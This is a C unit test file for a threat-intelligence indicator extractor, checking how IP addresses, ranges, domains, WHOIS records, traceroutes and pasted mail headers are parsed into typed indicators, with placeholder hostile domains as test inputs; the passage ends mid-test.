	    "ipv4 10.255.255.255 private\nipv4 11.0.0.0 public\n"
	    "ipv4 172.15.255.255 public\nipv4 172.16.0.1 private\n"
	    "ipv4 172.31.255.255 private\nipv4 172.32.0.1 public\n"
	    "ipv4 192.167.255.255 public\nipv4 192.168.0.1 private\n"
	    "ipv4 192.169.0.1 public\nipv4 100.63.255.255 public\n"
	    "ipv4 100.64.0.1 private\nipv4 100.127.255.255 private\n"
	    "ipv4 100.128.0.1 public\nipv4 126.255.255.255 public\n"
	    "ipv4 127.0.0.1 loopback\nipv4 169.253.255.255 public\n"
	    "ipv4 169.254.1.1 link-local\nipv4 169.255.0.1 public\n"
	    "ipv4 192.0.1.255 public\nipv4 192.0.2.1 documentation\n"
	    "ipv4 192.0.3.1 public\nipv4 198.51.99.255 public\n"
	    "ipv4 198.51.100.1 documentation\n"
	    "ipv4 203.0.113.9 documentation\nipv4 203.0.114.1 public\n"
	    "ipv4 223.255.255.255 public\nipv4 224.0.0.1 multicast\n"
	    "ipv4 239.255.255.250 multicast\nipv4 240.0.0.1 reserved\n"
	    "ipv4 255.255.255.255 reserved\nipv4 0.0.0.0 reserved\n"
	    "ipv4 192.0.0.8 reserved\nipv4 198.17.255.255 public\n"
	    "ipv4 198.18.0.1 reserved\nipv4 198.19.255.255 reserved\n"
	    "ipv4 198.20.0.1 public\nipv6 ff02::1 multicast\n"
	    "ipv6 fc00::1 private\nipv6 fdff::1 private\n"
	    "ipv6 fe00::1 reserved\nipv6 fe80::1 link-local\n"
	    "ipv6 febf::1 link-local\nipv6 fec0::1 reserved\n"
	    "ipv6 ::1 loopback\nipv6 1fff::1 reserved\n"
	    "ipv6 2000::1 public\nipv6 4000::1 reserved\n");
}

static void
test_idn(void **state)
{
	(void)state;
	expect("例子.中国 and xn--fsqu00a.xn--fiqs8s",
	    "domain xn--fsqu00a.xn--fiqs8s public\n"
	    "domain xn--fsqu00a.xn--fiqs8s public\n");
	expect("http://bücher.de/",
	    "url http://xn--bcher-kva.de/ public\n"
	    "domain xn--bcher-kva.de public\n");
	/* An A-label is checked by libidn2 in any case: "xn--a" decodes
	 * to nothing valid. */
	expect("xn--a.com XN--A.COM www.Xn--a.com and XN--BCHER-KVA.COM",
	    "domain xn--bcher-kva.com public\n");
	/* RFC 2606's .example is no public suffix: not a domain. */
	expect("evil.example", "");
	expect("恶意网站：hxxp://fake-bank[.]com/login，请处理",
	    "url http://fake-bank.com/login public defanged\n"
	    "domain fake-bank.com public defanged\n");
}

/* Address ranges, as lists of hosts write them: their networks. */
/* Two addresses with a slash between are two addresses, not the first
 * one's network ("8.8.8.8/8.8.4.4" gave the /8 of 8.8.8.8 and lost
 * 8.8.4.4); a netmask after the slash makes a network. */
static void
test_slashed_addresses(void **state)
{
	(void)state;
	expect("DNS 8.8.8.8/8.8.4.4, 1.2.3.4/5.6.7.8/9.9.9.1",
	    "ipv4 8.8.8.8 public\nipv4 8.8.4.4 public\n"
	    "ipv4 1.2.3.4 public\nipv4 5.6.7.8 public\n"
	    "ipv4 9.9.9.1 public\n");
	/* a second that is no address, and a prefix length followed by
	 * more numbers: the first address alone */
	expect("1.2.3.5/5.6.7.8x 1.2.3.6/24.5 1.2.3.7/5.6.7",
	    "ipv4 1.2.3.5 public\nipv4 1.2.3.6 public\n"
	    "ipv4 1.2.3.7 public\n");
	expect("10.0.0.0/255.0.0.0 192.0.2.0/255.255.255.128 "
	    "198.51.100.0/24. 203.0.113.0/24.x 0.0.0.0/0.0.0.0",
	    "cidr 10.0.0.0/8 private\n"
	    "cidr 192.0.2.0/25 documentation\n"
	    "cidr 198.51.100.0/24 documentation\n"
	    "cidr 203.0.113.0/24 documentation\n"
	    "cidr 0.0.0.0/0 reserved\n");
	/* a /32 (or a netmask of all ones) and a /128 are the host
	 * alone: one indicator with the address written bare */
	expect("45.33.32.156/32 and 45.33.32.156, 10.0.0.1/255.255.255.255 "
	    "2001:db8::7/128 2001:db8::7 203.0.113.9/31",
	    "ipv4 45.33.32.156 public\nipv4 45.33.32.156 public\n"
	    "ipv4 10.0.0.1 private\nipv6 2001:db8::7 documentation\n"
	    "ipv6 2001:db8::7 documentation\n"
	    "cidr 203.0.113.9/31 documentation\n");
	/* IPv6 too: not the first's network /2001, nor a /12 of "/12::" */
	expect("2001:db8::1/2001:db8::2 2001:db8::4/12:: 2001:db8::5/64,",
	    "ipv6 2001:db8::1 documentation\n"
	    "ipv6 2001:db8::2 documentation\n"
	    "ipv6 2001:db8::4 documentation\n"
	    "cidr 2001:db8::5/64 documentation\n");
	/* a URL's host holds no slash: no URL (it gave
	 * "http://[2001:db8::1]/x", a link nobody wrote) */
	expect("http://[2001:db8::1/64]/x",
	    "cidr 2001:db8::1/64 documentation\n");
	/* Cisco ASA's address and port, the interface's name before it,
	 * and the address it maps to in parentheses after: ssh's 22 is
	 * no /22 (the address has host bits under it) */
	expect("Deny tcp src outside:198.51.100.8/4444 dst "
	    "inside:10.0.0.6/22 by access-group; connection for "
	    "outside:198.51.100.7/25 (203.0.113.9/25) to x",
	    "ipv4 198.51.100.8 documentation\nipv4 10.0.0.6 private\n"
	    "ipv4 198.51.100.7 documentation\n"
	    "ipv4 203.0.113.9 documentation\n");
	/* networks after a key, alone or in parentheses, stay networks;
	 * so does an interface's address and its prefix ("ip addr") */
	expect("ip:10.0.0.0/8 net:192.0.2.0/24 (198.51.100.20/24) "
	    "x:1.2.3.4/ (198.51.100.22/24) (198.51.100.21/24) "
	    "inet 198.51.100.10/24 a:b (198.51.100.23/24)",
	    "cidr 10.0.0.0/8 private\ncidr 192.0.2.0/24 documentation\n"
	    "cidr 198.51.100.20/24 documentation\nipv4 1.2.3.4 public\n"
	    "cidr 198.51.100.22/24 documentation\n"
	    "cidr 198.51.100.21/24 documentation\n"
	    "cidr 198.51.100.10/24 documentation\n"
	    "cidr 198.51.100.23/24 documentation\n");
}

/* A WHOIS record pasted into a report: the domain and its name servers;
 * not the registrar's, the registry's or a network's contacts, nor
 * ICANN's pages (each gave an indicator). */
static void
test_whois_records(void **state)
{
	(void)state;
	expect("   Domain Name: EVIL-BANK-LOGIN.COM\n"
	    "   Registrar WHOIS Server: whois.namecheap.com\n"
	    "   Registrar URL: http://www.namecheap.com\n"
	    "   Registrar Abuse Contact Email: abuse@namecheap.com\n"
	    "   Domain Status: clientTransferProhibited "
	    "https://icann.org/epp#clientTransferProhibited\n"
	    "   Domain Status: clientDeleteProhibited "
	    "https://www.icann.org/epp#clientDeleteProhibited\n"
	    "   Name Server: DNS1.REGISTRAR-SERVERS.COM\n"
	    "URL of the ICANN Whois Inaccuracy Complaint Form: "
	    "https://www.icann.org/wicf/\n",
	    "domain evil-bank-login.com public\n"
	    "domain dns1.registrar-servers.com public\n");
	expect("inetnum:        198.51.100.0 - 198.51.100.255\n"
	    "abuse-mailbox:  abuse@isp-net.com\nnotify: noc@isp-net.com\n"
	    "OrgAbuseEmail:  abuse@arin-org.com\n"
	    "RTechEmail: tech@arin-org.com\n",
	    "cidr 198.51.100.0/24 documentation\n");
	/* elsewhere, the same values are indicators: free text, another
	 * key, a key not starting its line, a form's "E-mail:" */
	expect("remarks: report to abuse@isp-net.com\n"
	    "see Registrar URL: http://www.namecheap.com\n"
	    "E-mail: phisher@evil.com\nwhois.namecheap.com\n"
	    "https://icann.org/about\n",
	    "email abuse@isp-net.com public\n"
	    "url http://www.namecheap.com public\n"
	    "domain www.namecheap.com public\n"
	    "email phisher@evil.com public\n"
	    "domain whois.namecheap.com public\n"
	    "url https://icann.org/about public\n"
	    "domain icann.org public\n");
	/* an abuse report's fields (X-ARF, as blocklist.de sends them;
	 * RFC 5965's ARF): its schema, sender, own id and the spam's
	 * recipient gave indicators; what it reports stays */
	expect("Reported-From: reports@blocklist.de\n"
	    "Report-ID: 1234567890@blocklist.de\n"
	    "Schema-URL: http://www.x-arf.org/schema/abuse_0.1.2.json\n"
	    "Source: 198.51.100.44\n"
	    "Original-Mail-From: <spammer@evil-arf.com>\n"
	    "Original-Rcpt-To: <user@victim.org>\n"
	    "Removal-Recipient: user2@victim.org\n"
	    "Reported-Uri: http://evil-arf.com/x\n",
	    "ipv4 198.51.100.44 documentation\n"
	    "email spammer@evil-arf.com public\n"
	    "url http://evil-arf.com/x public\n"
	    "domain evil-arf.com public\n");
	expect("To: <user@victim.org>\nreport-id:user3@victim.org\n"
	    "Report-ID  x@victim.org\n",
	    "email user@victim.org public\n"
	    "email user3@victim.org public\n"
	    "email x@victim.org public\n");
	/* LACNIC's networks, their zero octets left off; its IPv6 ones and
	 * the full form read as anywhere */
	expect("% whois.lacnic.net\ninetnum:     177.0.0/15\n"
	    "status:      allocated\ninetrev:     177.0.0/15\n"
	    "INETNUM:\t200.160/12\r\ninetnum: 2804:14c::/31\n"
	    "inetnum: 10.0/8\ninetnum: 192.0.2.0/24\n",
	    "domain whois.lacnic.net public\n"
	    "cidr 177.0.0.0/15 public\ncidr 177.0.0.0/15 public\n"
	    "cidr 200.160.0.0/12 public\n"
	    "cidr 2804:14c::/31 public\ncidr 10.0.0.0/8 private\n"
	    "cidr 192.0.2.0/24 documentation\n");
	/* no network: elsewhere (a rating, a key not starting its line,
	 * another key), a host bit set, more bits than the octets hold, a
	 * word after it, an octet too large or none, no slash */
	expect("rated 4.5/10\n inetnum: 200.160/12\nremarks: 200.160/12\n"
	    "inetnum: 200.160 12\ninetnum: 200.160-12\n"
	    "inetnum: 200.161/12\ninetnum: 200.160/17\n"
	    "inetnum: 200.160/12x\ninetnum: 256.1/16\ninetnum: 200./8\n"
	    "inetnum: 200.160/\ninetnum: 200.160/123\ninetnum: 0.0/\n"
	    "inetnum: 0.0/016\n"
	    "inetnum: 1000000000000000000000000000000000000000.0/8\n"
	    "-----BEGIN PGP SIGNATURE-----\n"
	    "inetnum: 200.160/12\n-----END PGP SIGNATURE-----\n", "");
}

/* A range with a blank either side of its dash: a WHOIS inetnum's, a
 * word processor's " – ". Each gave its two ends as addresses, and the
 * hosts between them were nobody's. */
static void
test_spaced_ranges(void **state)
{
	(void)state;
	expect("inetnum:        192.0.2.0 - 192.0.2.255\n"
	    "hosts 198.51.100.1 – 198.51.100.3, 58.16.0.0 ~ 58.19.255.255.",
	    "cidr 192.0.2.0/24 documentation\n"
	    "ipv4 198.51.100.1 documentation\n"
	    "cidr 198.51.100.2/31 documentation\n"
	    "cidr 58.16.0.0/14 public\n");
	/* "至" or "到" (to) between the ends, as Chinese writes a range,
	 * blanks or none (session 35: each end an address) */
	expect("IP段：58.16.0.0至58.19.255.255，攻击源 192.0.2.4 至 192.0.2.9；"
	    "198.51.100.1到198.51.100.3；1.2.3.4 至 203.0.113.5",
	    "cidr 58.16.0.0/14 public\n"
	    "cidr 192.0.2.4/30 documentation\n"
	    "cidr 192.0.2.8/31 documentation\n"
	    "ipv4 198.51.100.1 documentation\n"
	    "cidr 198.51.100.2/31 documentation\n"
	    "ipv4 1.2.3.4 public\nipv4 203.0.113.5 documentation\n");
	/* the second lower, or far from the first (a flow), or no
	 * address, or an access log's "- -": each address alone */
	expect("198.51.100.20 - 198.51.100.10 1.2.3.4 - 5.6.7.8 "
	    "198.51.100.40 - 50 hosts 198.51.100.30 - - [22/Nov/2026] "
	    "198.51.100.50 - 198.51.100.60x",
	    "ipv4 198.51.100.20 documentation\n"
	    "ipv4 198.51.100.10 documentation\n"
	    "ipv4 1.2.3.4 public\nipv4 5.6.7.8 public\n"
	    "ipv4 198.51.100.40 documentation\n"
	    "ipv4 198.51.100.30 documentation\n"
	    "ipv4 198.51.100.50 documentation\n");
}

/* Names under a TLD that is also a file's extension (.pl, .in, .cc,
 * .sh) are hosts without a word that says so where no file is written
 * so: under a suffix of two labels, in IDNA, or a brand's name with its
 * ".com" made the start of another. Each gave nothing (session 35). */
static void
test_file_tld_hosts(void **state)
{
	(void)state;
	expect("phishing at allegro-login.com.pl, sbi-login.co.in, "
	    "portal.gov.pl and zażółć.pl; paypal.com.secure-login.cc and "
	    "apple.net.id-verify.sh",
	    "domain allegro-login.com.pl public\n"
	    "domain sbi-login.co.in public\n"
	    "domain portal.gov.pl public\n"
	    "domain xn--za-6ja4f8n1l.pl public\n"
	    "domain paypal.com.secure-login.cc public\n"
	    "domain apple.net.id-verify.sh public\n");
	/* three labels or more, the first a server's */
	expect("login.mbank.pl, mail.evil.in and cdn.evil.cc",
	    "domain login.mbank.pl public\ndomain mail.evil.in public\n"
	    "domain cdn.evil.cc public\n");
	/* two labels stay files without a word for host: a Perl script
	 * is written so too */
	expect("mbank-verify.pl and hxxp://mbank-verify[.]pl",
	    "url http://mbank-verify.pl public defanged\n"
	    "domain mbank-verify.pl public defanged\n");
	/* the words before it say host: a field's key, WHOIS's, an HTTP
	 * request's, a command's, Chinese; and so for names of code */
	expect("Domain: a-bank.pl\n\"hostname\": \"b-bank.in\"\n"
	    "Domain Name: C-BANK.SH\nHost: d-bank.cc\ndig e-bank.md\n"
	    "nslookup f-bank.rs; whois g-bank.so; ping h-bank.am\n"
	    "域名：i-bank.pl 主机 j-bank.pl fqdn=System.Net\n"
	    "ran exploit.pl on the host; hostile k-bank.pl, the ghost "
	    "l-bank.pl, Domain m-bank.pdf",
	    "domain a-bank.pl public\ndomain b-bank.in public\n"
	    "domain c-bank.sh public\ndomain d-bank.cc public\n"
	    "domain e-bank.md public\ndomain f-bank.rs public\n"
	    "domain g-bank.so public\ndomain h-bank.am public\n"
	    "domain i-bank.pl public\ndomain j-bank.pl public\n"
	    "domain system.net public\n");
	/* ... or a site's verbs (each gave nothing); a file's stay none */
	expect("visit secure-login.zip now; the page redirects to "
	    "login-check.mov; Visited: account-verify.zip; browse to "
	    "n-bank.pl. Open invoice.zip, sent to report.zip, go to "
	    "setup.zip。访问 o-bank.zip，跳转到p-bank.mov",
	    "domain secure-login.zip public\ndomain login-check.mov public\n"
	    "domain account-verify.zip public\ndomain n-bank.pl public\n"
	    "domain o-bank.zip public\ndomain p-bank.mov public\n");
}

/* A Suricata or Snort rule pasted into a report: its reference's page
 * is documentation (each gave a URL and its host to notify), its
 * reference's CVE number a CVE (none before); its sample's digest stays
 * (session 35). */
static void
test_rule_references(void **state)
{
	(void)state;
	expect("alert http any any -> any any (msg:\"ET EXPLOIT x\"; "
	    "content:\"/evil.php\"; reference:url,www.proofpoint.com/us/blog/"
	    "x; reference:url,doc.emergingthreats.net/2034647; "
	    "reference:cve,2021-44228; reference:md5,d41d8cd98f00b204e98009"
	    "98ecf8427e; reference:url,https://evil.com/x; sid:2034647;)\n"
	    "reference:cve,20211-4422 reference:cve,2021-44x cve,2024-3094 "
	    "see www.proofpoint.com/us/blog",
	    "cve CVE-2021-44228 public\n"
	    "md5 d41d8cd98f00b204e9800998ecf8427e public\n"
	    "url http://www.proofpoint.com/us/blog public\n"
	    "domain www.proofpoint.com public\n");
}

/* A network written as its address and mask with a blank between, as
 * routers' and firewalls' configurations and ifconfig write it: each
 * gave the network's first address and the mask as two hosts, and a
 * mask alone (ipconfig's "Subnet Mask") was a host. */
static void
test_spaced_masks(void **state)
{
	(void)state;
	expect("ip route 10.0.0.0 255.0.0.0 192.0.2.1.\n"
	    "access-list 101 deny ip 203.0.113.0 0.0.0.255 any\n"
	    "network 172.16.0.0 0.0.255.255 area 0\n"
	    "route ADD 157.0.0.0 MASK 255.255.0.0 157.55.80.1\n"
	    "inet 192.168.1.5  netmask 255.255.255.0  broadcast 192.168.1.255\n"
	    "set subnet 198.51.100.0\t255.255.255.128\n"
	    "host 198.51.100.200 255.255.255.254\n"
	    "   Subnet Mask . . . . . . . . . . . : 255.255.252.0\n",
	    "cidr 10.0.0.0/8 private\nipv4 192.0.2.1 documentation\n"
	    "cidr 203.0.113.0/24 documentation\n"
	    "cidr 172.16.0.0/16 private\ncidr 157.0.0.0/16 public\n"
	    "ipv4 157.55.80.1 public\ncidr 192.168.1.5/24 private\n"
	    "ipv4 192.168.1.255 private\n"
	    "cidr 198.51.100.0/25 documentation\n"
	    "cidr 198.51.100.200/31 documentation\n");
	/* no mask: two addresses, a route's default ("0.0.0.0 0.0.0.0"),
	 * a mask whose ones are not contiguous, a word after "mask", the
	 * limited broadcast (an address in lists as often as a host's
	 * mask), a mask glued to a word */
	expect("198.51.100.7 198.51.100.8 0.0.0.0 0.0.0.0 "
	    "198.51.100.9 255.0.255.0 198.51.100.10 mask 24 "
	    "198.51.100.12 255.255.255.255 198.51.100.11 255.255.255.0x",
	    "ipv4 198.51.100.7 documentation\n"
	    "ipv4 198.51.100.8 documentation\n"
	    "ipv4 0.0.0.0 reserved\nipv4 0.0.0.0 reserved\n"
	    "ipv4 198.51.100.9 documentation\n"
	    "ipv4 255.0.255.0 reserved\n"
	    "ipv4 198.51.100.10 documentation\n"
	    "ipv4 198.51.100.12 documentation\n"
	    "ipv4 255.255.255.255 reserved\n"
	    "ipv4 198.51.100.11 documentation\n");
}

/* A traceroute pasted into a report: the routers on the way (each hop
 * that another follows) did nothing and gave their addresses and names
 * to notify; the destination stays, on the "traceroute to" line and as
 * the last hop. */
static void
test_traceroutes(void **state)
{
	char *p;

	(void)state;
	expect("traceroute to evil.com (203.0.113.10), 30 hops max\n"
	    " 1  _gateway (10.0.0.1)  0.512 ms  0.480 ms\n"
	    " 2  ae-1.r21.tokyjp05.jp.bb.gin.ntt.net (129.250.2.1)  1.201 ms\n"
	    " 3  * * *\n"
	    " 4  72.14.239.1 (72.14.239.1)  12.1 ms 108.170.252.1 "
	    "(108.170.252.1)  12.0 ms\n"
	    " 5  203.0.113.10 (203.0.113.10)  20.1 ms\n",
	    "domain evil.com public\nipv4 203.0.113.10 documentation\n"
	    "ipv4 203.0.113.10 documentation\n"
	    "ipv4 203.0.113.10 documentation\n");
	/* Windows' tracert, CRLF; mtr's report; tracepath's */
	expect("Tracing route to evil.net [203.0.113.11]\r\n\r\n"
	    "  1    <1 ms    <1 ms    <1 ms  192.168.1.1\r\n"
	    "  2     8 ms     7 ms     8 ms  x.ntt.net [129.250.3.1]\r\n"
	    "  3     *        *        *     Request timed out.\r\n"
	    "  4    20 ms    20 ms    20 ms  203.0.113.11\r\n\r\n"
	    "HOST: me       Loss%   Snt   Last\n"
	    "  1.|-- 10.0.0.1        0.0%    10    0.5\n"
	    "  2.|-- 129.250.4.1     0.0%    10    1.2\n"
	    "  3.|-- 203.0.113.12    0.0%    10    9.2\n"
	    " 1?: [LOCALHOST]     pmtu 1500\n 1:  _gateway     0.512ms\n"
	    " 2:  129.250.5.1     1.201ms\n 3:  203.0.113.13   9.201ms\n"
	    "\t1  198.51.100.20  1 ms\n\t2  198.51.100.21  1 ms\n"
	    "90  198.51.100.22  1 ms\n91  198.51.100.23  1 ms\n"
	    "> 1  198.51.100.24  1 ms\n>  2  198.51.100.25  1 ms\n"
	    "1\t198.51.100.26  1 ms\n2\t198.51.100.27  1 ms\n"
	    "100  198.51.100.28  1 ms\n101  198.51.100.29  1 ms\n",
	    "domain evil.net public\nipv4 203.0.113.11 documentation\n"
	    "ipv4 203.0.113.11 documentation\n"
	    "ipv4 203.0.113.12 documentation\n"
	    "ipv4 203.0.113.13 documentation\n"
	    "ipv4 198.51.100.21 documentation\n"
	    "ipv4 198.51.100.23 documentation\n"
	    "ipv4 198.51.100.25 documentation\n"
	    "ipv4 198.51.100.27 documentation\n"
	    "ipv4 198.51.100.29 documentation\n");
	/* ping's lines, a numbered list, hops that do not follow on, a
	 * time that is no "ms", hop 10 of a list that starts there */
	expect("64 bytes from 198.51.100.1: icmp_seq=1 time=20.1 ms\n"
	    "64 bytes from 198.51.100.1: icmp_seq=2 time=20.2 ms\n"
	    "1  host 198.51.100.2 (scanning)\n2  host 198.51.100.3\n"
	    " 1  198.51.100.4  0.5 ms\n 3  198.51.100.5  0.6 ms\n"
	    " 1  198.51.100.6  items\n 2  198.51.100.7  2ms\n"
	    "1.  198.51.100.8  0.5 ms\n2.  198.51.100.9  0.5 ms\n"
	    "1000  198.51.100.10  1 ms\n1001  198.51.100.11  1 ms\n"
	    " 0  198.51.100.12  1 ms\n 1  198.51.100.13  1 ms\n"
	    "  1.|-> 198.51.100.14\n  2.|-- 198.51.100.15\n"
	    "1  host 198.51.100.16 msn\n2  host 198.51.100.17 msn\n",
	    "ipv4 198.51.100.1 documentation\n"
	    "ipv4 198.51.100.1 documentation\n"
	    "ipv4 198.51.100.2 documentation\n"
	    "ipv4 198.51.100.3 documentation\n"
	    "ipv4 198.51.100.4 documentation\n"
	    "ipv4 198.51.100.5 documentation\n"
	    "ipv4 198.51.100.6 documentation\n"
	    "ipv4 198.51.100.7 documentation\n"
	    "ipv4 198.51.100.8 documentation\n"
	    "ipv4 198.51.100.9 documentation\n"
	    "ipv4 198.51.100.10 documentation\n"
	    "ipv4 198.51.100.11 documentation\n"
	    "ipv4 198.51.100.12 documentation\n"
	    "ipv4 198.51.100.13 documentation\n"
	    "ipv4 198.51.100.14 documentation\n"
	    "ipv4 198.51.100.15 documentation\n"
	    "ipv4 198.51.100.16 documentation\n"
	    "ipv4 198.51.100.17 documentation\n");
	/* ioc_fold_cut: the start of the hops when the last line is one */
	assert_int_equal(ioc_fold_cut("x\n 1  a  1 ms\n 2  b  1 ms\n", 26),
	    2);
	assert_int_equal(ioc_fold_cut(" 1  a  1 ms\n 2  b  1 ms\n", 24), 24);
	assert_int_equal(ioc_fold_cut("x\n 1  a  1 ms\ny\n", 16), 16);
	assert_int_equal(ioc_fold_cut("x\r\n 1  a  1 ms\r\n", 16), 3);
	/* a line too long, cut where it stands: no line end to go back to;
	 * nor is a hop of more than 16 KB waited for */
	assert_int_equal(ioc_fold_cut("x\n 1  a  1 ms", 13), 13);
	assert_non_null(p = malloc(20000));
	memset(p, 'a', 20000);
	memcpy(p, "x\n 1  ", 6);
	memcpy(p + 19980, "  1 ms\n", 7);
	assert_int_equal(ioc_fold_cut(p, 19987), 19987);
	memcpy(p + 19987, " 2  a 1 ms\n", 11);
	assert_int_equal(ioc_fold_cut(p, 19998), 19987);
	free(p);
}

/* Mail header fields pasted into a report: the sender's stay, the
 * receivers' go (a Received field's by, for and id clauses, a hop
 * inside one operator, the results' server), with each field's
 * continuation lines, indented or quoted. */
static void
test_pasted_headers(void **state)
{
	struct buf b = BUF_INIT;
	char *p, *q;
	int i;

	(void)state;
	/* Gmail's: the receiver, its seals, the 6to4 hosts go */
	expect("X-Received: by 2002:a17:906:d7:b0:a72:5f7a:1234 with SMTP id "
	    "c23mr4;\n        Mon, 01 Jul 2024 05:12:34 -0700 (PDT)\n"
	    "ARC-Seal: i=1; a=rsa-sha256; t=1719835954; cv=none;\n"
	    "        d=google.com; s=arc-20160816;\n"
	    "ARC-Authentication-Results: i=1; mx.google.com;\n"
	    "       spf=pass (google.com: domain of x@evil-shop.ru designates "
	    "203.0.113.45 as permitted sender) smtp.mailfrom=x@evil-shop.ru\n"
	    "Received: from mail.evil-shop.ru (mail.evil-shop.ru. "
	    "[203.0.113.45])\n        by mx.google.com with ESMTPS id "
	    "a640c23a62f3a.12.2024.07.01\n        for <victim@example.org>\n"
	    "        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384);\n"
	    "        Mon, 01 Jul 2024 05:12:34 -0700 (PDT)\n",
	    "email x@evil-shop.ru public\nipv4 203.0.113.45 documentation\n"
	    "email x@evil-shop.ru public\ndomain mail.evil-shop.ru public\n"
	    "domain mail.evil-shop.ru public\n"
	    "ipv4 203.0.113.45 documentation\n");
	/* a hop inside Gmail (the name looked up for the address is
	 * Google's too): nothing; Office 365's hop prints no looked-up
	 * name, its from clause stays, and so does a sender's that names
	 * itself as a server of the receiver's ("([203.0.113.11])") */
	expect("Received: from mail-sor-f41.google.com (mail-sor-f41.google."
	    "com. [209.85.220.41])\n        by mx.google.com with SMTPS id "
	    "a64\n        for <victim@gmail.com>\n"
	    "Received: from DM6PR11MB1234.namprd11.prod.outlook.com "
	    "(2603:10b6:5:1a2::3) by\n SJ0PR11MB5678.namprd11.prod.outlook.com "
	    "(2603:10b6:a03:2d5::14) with\n Microsoft SMTP Server id "
	    "15.20.7677.12; Mon, 1 Jul\n 2024 12:12:30 +0000\n"
	    "Received: from mx2.victim.net ([203.0.113.11])\n"
	    "        by mx1.victim.net with ESMTP id abc; Mon, 1 Jul 2024\n",
	    "domain dm6pr11mb1234.namprd11.prod.outlook.com public\n"
	    "ipv6 2603:10b6:5:1a2::3 public\n"
	    "domain mx2.victim.net public\n"
	    "ipv4 203.0.113.11 documentation\n");
	/* flattened into one line, as a web form or a ticket keeps a
	 * header: each field up to the next; the senders stay, the
	 * receivers, the id and the results' server go (the first hop's
	 * "by" took the rest of the line) */
	expect("Received: from mail.phish.ru (mail.phish.ru [203.0.113.10]) "
	    "by mx.victim.net (Postfix) with ESMTPS id 4WCn for "
	    "<user@victim.net>; Mon, 1 Jul 2024 12:00:00 +0000 Received: "
	    "from mx2.victim.net ([198.51.100.11]) by mx1.victim.net; Mon, "
	    "1 Jul 2024 Message-ID: <a1@phish.ru> Authentication-Results: "
	    "mx.victim.net; spf=pass smtp.mailfrom=a@phish.ru Return-Path: "
	    "<b@phish.ru> Received: thanks, evil.com",
	    "domain mail.phish.ru public\ndomain mail.phish.ru public\n"
	    "ipv4 203.0.113.10 documentation\n"
	    "domain mx2.victim.net public\n"
	    "ipv4 198.51.100.11 documentation\n"
	    "email a@phish.ru public\nemail b@phish.ru public\n"
	    "domain evil.com public\n");
	/* glued to a date's digits or a comment's ')' by its capital; a
	 * hop inside Gmail whole; a Received field that is no hop is
	 * read as text ("by" in it takes nothing) */
	expect("Received: from a.phish.ru ([203.0.113.20]) by mx.victim.net; "
	    "Mon, 1 Jul 2024 12:00:00 +0000Received: from mail-sor-f41."
	    "google.com (mail-sor-f41.google.com. [209.85.220.41]) by "
	    "mx.google.com (PDT)Received: from b.phish.ru ([203.0.113.21]) "
	    "by mx2.victim.net; 1 Jul 2024 Received: thanks by mail, see "
	    "evil.com",
	    "domain a.phish.ru public\nipv4 203.0.113.20 documentation\n"
	    "domain b.phish.ru public\nipv4 203.0.113.21 documentation\n"
	    "domain evil.com public\n");
	/* a long header in one line: every receiver goes */
	buf_reset(&b);
	for (i = 0; i < 12; i++)
		buf_addf(&b, "Received: from h%d.phish.ru ([203.0.113.%d]) by "
		    "mx%d.victim.net; 1 Jul 2024 ", i, i, i);
	p = scan(b.data);
	for (i = 0; i < 12; i++) {
		char name[32];

		snprintf(name, sizeof(name), "mx%d.victim.net", i);
		assert_null(strstr(p, name));
		snprintf(name, sizeof(name), "h%d.phish.ru", i);
		assert_non_null(strstr(p, name));
	}
	free(p);
	buf_reset(&b);
	/* quoted in a reply; qmail's and Postfix's; a "by" in a comment
	 * is no clause; a results field's server and SPF's receiver */
	expect("> Received: from mail.phish.ru (mail.phish.ru [203.0.113.10])\n"
	    ">         by mx.victim.net (Postfix) with ESMTPS id 4WCn\n"
	    ">         for <user@victim.net>; Mon,  1 Jul 2024 12:00:00\n"
	    "> Authentication-Results: mx.victim.net; spf=pass "
	    "smtp.mailfrom=a@phish.ru\n"
	    "Received: (qmail 12345 invoked by uid 48); 1 Jul 2024\n"
	    "Received: from unknown (HELO helo.phish.ru) (203.0.113.13)\n"
	    "  by mail.victim.net with SMTP; 1 Jul 2024 11:59:59 -0000\n"
	    "Received: from a.phish.ru (proxy by hand) (203.0.113.14) by\n"
	    "\tmx.victim.net\n"
	    "Received-SPF: pass (google.com: domain of x@phish.ru designates "
	    "203.0.113.15 as permitted sender) client-ip=203.0.113.15; "
	    "receiver=mx.victim.net; envelope-from=x@phish.ru\n",
	    "domain mail.phish.ru public\ndomain mail.phish.ru public\n"
	    "ipv4 203.0.113.10 documentation\nemail a@phish.ru public\n"
	    "domain helo.phish.ru public\nipv4 203.0.113.13 documentation\n"
	    "domain a.phish.ru public\nipv4 203.0.113.14 documentation\n"
	    "email x@phish.ru public\nipv4 203.0.113.15 documentation\n"
	    "ipv4 203.0.113.15 documentation\nemail x@phish.ru public\n");
	/* ids with their continuation lines, a mailer's home page; prose
	 * that starts as a field does stays text, and so does the line
	 * after a field */
	expect("References: <one@mail.phish.ru>\n <two@mail.phish.ru>\n"
	    "X-Mailer: PHPMailer 6.5.0 (https://github.com/PHPMailer/"
	    "PHPMailer)\n"
	    "Received: thanks for your report about phish.ru.\n"
	    "It was hosted by evil.com.\n"
	    "Received: from x.evil.net\n"
	    "evil.org\n",
	    "domain phish.ru public\ndomain evil.com public\n"
	    "domain x.evil.net public\ndomain evil.org public\n");
	/* the sender's HELO name is any word ("hobby"); a hop is inside
	 * one operator only when both its names are the receiver's; a
	 * word that starts with b is no "by"; a field indented, or quoted
	 * deeper on its next line (another quote: text) */
	expect("Received: from hobby (hobby.evil.net [192.0.2.9]) by mx.v.net\n"
	    "Received: from mx2.v.net (host.evil.ru [192.0.2.10]) by "
	    "mx1.v.net\n"
	    "Received: from helo.evil.ru (mail-sor-f41.google.com. "
	    "[209.85.220.41]) by mx.google.com\n"
	    "Received: from a.evil.net (a.evil.net [192.0.2.11]) bc "
	    "c.evil.org\n"
	    "> Received: from q.evil.net (q.evil.net [192.0.2.13])\n"
	    ">>        by r.evil.org\n",
	    "domain hobby.evil.net public\nipv4 192.0.2.9 documentation\n"
	    "domain mx2.v.net public\ndomain host.evil.ru public\n"
	    "ipv4 192.0.2.10 documentation\n"
	    "domain helo.evil.ru public\n"
	    "domain mail-sor-f41.google.com public\n"
	    "ipv4 209.85.220.41 public\n"
	    "domain a.evil.net public\ndomain a.evil.net public\n"
	    "ipv4 192.0.2.11 documentation\ndomain c.evil.org public\n"
	    "domain q.evil.net public\ndomain q.evil.net public\n"
	    "ipv4 192.0.2.13 documentation\ndomain r.evil.org public\n");
	expect("    Received: from i.evil.net (i.evil.net [192.0.2.12])\n"
